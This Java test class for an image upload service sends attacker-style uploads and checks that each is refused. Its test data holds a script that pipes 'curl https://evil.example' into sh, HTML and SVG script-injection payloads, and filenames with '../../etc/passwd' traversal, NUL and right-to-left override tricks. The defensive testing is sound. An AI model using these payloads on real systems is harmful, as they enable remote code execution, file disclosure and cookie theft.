package dev.lightbox.image;

import static io.restassured.RestAssured.given;
import static org.hamcrest.Matchers.equalTo;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertNotEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.net.URLEncoder;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.util.List;
import java.util.Set;
import java.util.stream.Stream;

import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;

import dev.lightbox.testsupport.Identities;
import dev.lightbox.testsupport.Identities.TestUser;
import io.quarkus.test.junit.QuarkusTest;
import io.restassured.builder.MultiPartSpecBuilder;
import io.restassured.path.json.JsonPath;

/**
 * Uploads an attacker would try. After each, the attacker owns no ready image and the bucket holds no object of
 * theirs: nothing they sent got in. Public objects ({@code public/{imageId}}) do not name their owner, so the bucket is
 * compared with what it held before the test instead.
 */
@QuarkusTest
class ImageUploadAttackTest {

    /** %test.lightbox.max-image-bytes in application.properties. */
    private static final int MAX_BYTES = 6 * 1024 * 1024;
    private static final byte[] HTML = "<!DOCTYPE html><html><body><script>alert(document.cookie)</script></body></html>"
            .getBytes(StandardCharsets.UTF_8);
    private static final byte[] SVG = "<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"alert(1)\"><rect width=\"9\" height=\"9\"/></svg>"
            .getBytes(StandardCharsets.UTF_8);
    private static final byte[] SCRIPT = "#!/bin/sh\ncurl https://evil.example | sh\n".getBytes(StandardCharsets.UTF_8);

    private TestUser attacker;
    private Set<String> publicKeysBefore;

    @BeforeEach
    void signIn() {
        attacker = Identities.signedIn("attacker");
        publicKeysBefore = Set.copyOf(TestImages.originalKeysContaining("public/"));
    }

    @AfterEach
    void nothingGotIn() {
        List<Object> ready = given().auth().oauth2(attacker.accessToken()).queryParam("owner", attacker.id())
                .when().get("/api/images").then().statusCode(200)
                .extract().jsonPath().getList("items.findAll { it.status == 'ready' }");
        assertEquals(List.of(), ready, "no ready image");
        TestImages.assertNoObjectsContaining(attacker.id());
        // Other tests do not run meanwhile (one class at a time), so any new public original is the attacker's (the
        // worker may still be making an earlier test's variants).
        List<String> newPublicKeys = TestImages.originalKeysContaining("public/").stream()
                .filter(key -> key.startsWith("public/") && !publicKeysBefore.contains(key)).toList();
        assertEquals(List.of(), newPublicKeys, "no public object left in the bucket");
    }

    static Stream<Arguments> mislabelledContent() {
        return Stream.of(
                Arguments.of("JPEG bytes declared as PNG", "image/png", TestImages.jpeg(4, 4)),
                Arguments.of("PNG bytes declared as WebP", "image/webp", TestImages.png(4, 4)),
                Arguments.of("HTML declared as PNG", "image/png", HTML),
                Arguments.of("SVG declared as GIF", "image/gif", SVG),
                Arguments.of("shell script declared as JPEG", "image/jpeg", SCRIPT),
                Arguments.of("PNG signature without a header", "image/png", java.util.Arrays.copyOf(TestImages.png(2, 2), 12)));
    }

    @ParameterizedTest(name = "presigned: {0} → 422")
    @MethodSource("mislabelledContent")
    void presignedContentThatIsNotWhatWasDeclaredIsRemoved(String name, String declaredType, byte[] bytes) {
        JsonPath ticket = TestImages.startUpload(attacker, TestImages.uploadBody("x.img", declaredType, bytes.length, "public"))
                .then().statusCode(201).extract().jsonPath();
        String id = ticket.getString("image.id");
        assertEquals(200, TestImages.put(ticket.getString("upload.url"), declaredType, bytes));
        given().auth().oauth2(attacker.accessToken()).when().post("/api/images/" + id + "/complete")
                .then().statusCode(422).contentType("application/problem+json").body("code", equalTo("image.content_mismatch"));
        TestImages.assertNoObjectsContaining(id);
        given().when().get("/api/images/" + id).then().statusCode(404);
        removePending(id);
    }

    static Stream<Arguments> notImages() {
        return Stream.of(Arguments.of("HTML", HTML), Arguments.of("SVG", SVG), Arguments.of("script", SCRIPT),
                Arguments.of("three bytes", new byte[] { 'G', 'I', 'F' }));
    }

    @ParameterizedTest(name = "streamed: {0} declared as image/png → 415")
    @MethodSource("notImages")
    void streamedBytesThatAreNotAnImageAreRefused(String name, byte[] bytes) {
        TestImages.stream(attacker, "x.png", bytes, "image/png", "level", "public")
                .then().statusCode(415).contentType("application/problem+json").body("code", equalTo("image.unsupported_type"));
    }

    @Test
    void declaringATypeOutsideTheAllowListIsRefused() {
        TestImages.startUpload(attacker, TestImages.uploadBody("x.svg", "image/svg+xml", 100, null))
                .then().statusCode(415).body("code", equalTo("image.unsupported_type"));
        TestImages.startUpload(attacker, TestImages.uploadBody("x.html", "text/html", 100, null))
                .then().statusCode(415);
    }

    @Test
    void declaringOneByteOverTheLimitIsRefused() {
        TestImages.startUpload(attacker, TestImages.uploadBody("big.png", "image/png", MAX_BYTES + 1L, null))
                .then().statusCode(413).body("code", equalTo("image.too_large"));
        TestImages.startUpload(attacker, TestImages.uploadBody("empty.png", "image/png", 0, null)).then().statusCode(400);
    }

    @Test
    void streamingOneByteOverTheLimitIsRefusedWhileStreaming() {
        TestImages.stream(attacker, "big.png", TestImages.paddedPng(MAX_BYTES + 1), "image/png")
                .then().statusCode(413).contentType("application/problem+json").body("code", equalTo("image.too_large"));
        // Exactly at the limit is fine (and spans two S3 parts); removed again so the after-check holds.
        String id = TestImages.stream(attacker, "max.png", TestImages.paddedPng(MAX_BYTES), "image/png")
                .then().statusCode(201).body("size", equalTo(MAX_BYTES)).extract().path("id");
        given().auth().oauth2(attacker.accessToken()).when().delete("/api/images/" + id).then().statusCode(204);
    }

    @Test
    void presignedPutWithAnotherContentTypeOrLengthIsRefusedByStorage() {
        byte[] png = TestImages.png(5, 5);
        JsonPath ticket = TestImages.startUpload(attacker, TestImages.uploadBody("x.png", "image/png", png.length, null))
                .then().statusCode(201).extract().jsonPath();
        String url = ticket.getString("upload.url");
        assertEquals(403, TestImages.put(url, "text/html", png), "another Content-Type");
        byte[] longer = java.util.Arrays.copyOf(png, png.length + 1);
        assertNotEquals(200, TestImages.put(url, "image/png", longer), "another Content-Length");
        byte[] shorter = java.util.Arrays.copyOf(png, png.length - 1);
        assertNotEquals(200, TestImages.put(url, "image/png", shorter), "another Content-Length");
        given().auth().oauth2(attacker.accessToken()).when().post("/api/images/" + ticket.getString("image.id") + "/complete")
                .then().statusCode(409).body("code", equalTo("upload.missing"));
        removePending(ticket.getString("image.id"));
    }

    @Test
    void someoneElsesUploadCannotBeCompleted() {
        TestUser victim = Identities.signedIn("victim");
        String id = TestImages.uploadedNotCompleted(victim, "image/png", TestImages.png(3, 3), "public");
        given().auth().oauth2(attacker.accessToken()).when().post("/api/images/" + id + "/complete")
                .then().statusCode(404);
        given().when().get("/api/images/" + id).then().statusCode(404);
        given().auth().oauth2(victim.accessToken()).when().post("/api/images/" + id + "/complete").then().statusCode(200);
        // The victim's image is public, and the after-check counts every new public object as the attacker's.
        given().auth().oauth2(victim.accessToken()).when().delete("/api/images/" + id).then().statusCode(204);
    }

    @Test
    void completingTwiceSaysSo() {
        byte[] png = TestImages.png(3, 3);
        String id = TestImages.presignedUpload(attacker, "image/png", png, null).getString("id");
        given().auth().oauth2(attacker.accessToken()).when().post("/api/images/" + id + "/complete")
                .then().statusCode(409).body("code", equalTo("upload.already_completed"));
        given().auth().oauth2(attacker.accessToken()).when().delete("/api/images/" + id).then().statusCode(204);
    }

    static Stream<Arguments> badFilenames() {
        return Stream.of(
                Arguments.of("parent directory", "../../etc/passwd"),
                Arguments.of("path", "photos/cat.png"),
                Arguments.of("windows path", "..\\cat.png"),
                Arguments.of("NUL", "cat\u0000.png"),
                Arguments.of("newline", "cat\n.png"),
                Arguments.of("1 KB of characters", "a".repeat(1024) + ".png"),
                Arguments.of("right-to-left override", "invoice\u202Egnp.exe"),
                Arguments.of("dot dot", ".."),
                Arguments.of("blank", "   "));
    }

    @ParameterizedTest(name = "presigned: filename with {0} → 400")
    @MethodSource("badFilenames")
    void presignedUploadRefusesBadFilenames(String name, String filename) {
        TestImages.startUpload(attacker, TestImages.uploadBody(filename, "image/png", 100, null))
                .then().statusCode(400).contentType("application/problem+json")
                .body("errors[0].field", equalTo("filename"));
    }

    @ParameterizedTest(name = "streamed: filename with {0} → 400")
    @MethodSource("badFilenames")
    void streamedUploadRefusesBadFilenames(String name, String filename) {
        // Sent by hand: RestAssured would encode the filename as ISO-8859-1 and lose the override character. A NUL or a
        // line break cannot stand in a quoted header value; RFC 5987's extended parameter carries them percent-encoded.
        String parameter = filename.contains("\u0000") || filename.contains("\n")
                ? "filename*=UTF-8''" + URLEncoder.encode(filename, StandardCharsets.UTF_8).replace("+", "%20")
                : "filename=\"" + filename + "\"";
        HttpResponse<String> response = TestImages.streamWithFilenameParameter(attacker, parameter, TestImages.png(2, 2));
        assertEquals(400, response.statusCode());
        assertEquals("filename", JsonPath.from(response.body()).getString("errors[0].field"), response.body());
    }

    @Test
    void unicodeFilenamesThatAreHonestAreKept() {
        String id = TestImages.startUpload(attacker, TestImages.uploadBody("Ferien am Meer 🌊 – 海.png", "image/png", 10, null))
                .then().statusCode(201).body("image.filename", equalTo("Ferien am Meer 🌊 – 海.png")).extract().path("image.id");
        assertTrue(id.length() > 0);
        removePending(id);
    }

    @Test
    void uploadsNeedASignedInUser() {
        given().contentType("application/json").body(TestImages.uploadBody("a.png", "image/png", 10, null))
                .when().post("/api/images/uploads").then().statusCode(401);
        given().multiPart("file", "a.png", TestImages.png(2, 2), "image/png").when().post("/api/images")
                .then().statusCode(401).contentType("application/problem+json");
    }

    @Test
    void streamedUploadMustBeMultipart() {
        given().auth().oauth2(attacker.accessToken()).contentType("image/png").body(TestImages.png(2, 2))
                .when().post("/api/images").then().statusCode(415).contentType("application/problem+json");
        given().auth().oauth2(attacker.accessToken()).multiPart("title", "no file").when().post("/api/images")
                .then().statusCode(400).body("errors[0].field", equalTo("file"));
    }

    @Test
    void oversizedFormFieldsAreRefused() {
        TestImages.stream(attacker, "t.png", TestImages.png(2, 2), "image/png", "description", "d".repeat(2001))
                .then().statusCode(400).body("errors[0].field", equalTo("description"));
        TestImages.stream(attacker, "t.png", TestImages.png(2, 2), "image/png", "title", "t".repeat(201))
                .then().statusCode(400).body("errors[0].field", equalTo("title"));
        TestImages.stream(attacker, "t.png", TestImages.png(2, 2), "image/png", "description", "ü".repeat(20_000))
                .then().statusCode(400).contentType("application/problem+json");
        TestImages.stream(attacker, "t.png", TestImages.png(2, 2), "image/png", "level", "everyone")
                .then().statusCode(400).body("errors[0].field", equalTo("level"));
    }

    @Test
    void aLongNonAsciiDescriptionWithinTheLimitIsAccepted() {
        String description = "海".repeat(2000); // 6000 bytes in UTF-8
        String id = given().auth().oauth2(attacker.accessToken())
                .multiPart("file", "t.png", TestImages.png(2, 2), "image/png")
                .multiPart(new MultiPartSpecBuilder(description).controlName("description").charset("UTF-8").build())
                .when().post("/api/images").then().statusCode(201).body("description", equalTo(description)).extract().path("id");
        given().auth().oauth2(attacker.accessToken()).when().delete("/api/images/" + id).then().statusCode(204);
    }

    /** Pending rows are the attacker's own and harmless; delete them so the after-check sees a clean slate. */
    private void removePending(String id) {
        given().auth().oauth2(attacker.accessToken()).when().delete("/api/images/" + id).then().statusCode(204);
    }
}
